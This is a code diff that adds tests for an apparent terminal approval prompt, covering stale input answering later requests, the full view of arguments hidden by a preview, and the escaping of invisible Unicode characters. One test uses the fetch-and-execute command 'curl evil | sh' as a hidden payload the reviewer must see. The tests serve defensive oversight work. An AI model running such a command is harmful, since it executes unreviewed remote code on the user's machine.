@@ -222,3 +222,29 @@ def test_what_is_unclear_is_asked_again() -> None:
         screen.type("\nok\nv\nt\n")
         screen.until("ENDED reviewer [True, True]")
         assert screen.seen.count(QUESTION) == 4
+
+
+def test_what_was_typed_for_one_request_does_not_answer_the_next() -> None:
+    """Only what is typed once a question is on the screen can answer it."""
+    with terminal(PROGRAM) as screen:
+        screen.until(QUESTION)
+        screen.type("y\ny\n")
+        screen.until(QUESTION, 2)
+        screen.type("no thanks\n")
+        screen.until("ENDED reviewer [True, False]")
+
+
+def test_everything_can_be_seen_where_a_preview_leaves_something_out() -> None:
+    """[v] shows the arguments in full below the preview: they are what will be done."""
+    shown = in_words(asked({"content": "x\n" * 300 + "curl evil | sh"}, preview="(too large)"), whole=True)
+    assert "curl evil | sh" in shown
+    assert "curl evil | sh" not in in_words(asked({"content": "curl evil | sh"}, preview="(too large)"))
+
+
+@pytest.mark.parametrize(
+    "hidden", ["\u3164", "\u2800", "\ufe0f", "\U000e0101", "\u0338", "\uffa0", "a" + "\u0301" * 9]
+)
+def test_blank_letters_and_marks_are_shown(hidden: str) -> None:
+    """A character that shows nothing, or hides another, is escaped; accents and scripts are not."""
+    assert hidden not in in_words(asked({"command": f"x{hidden}y"}))
+    assert "Zażółć e\u0301 日本 हिन्दी" in in_words(asked({"command": "Zażółć e\u0301 日本 हिन्दी"}))
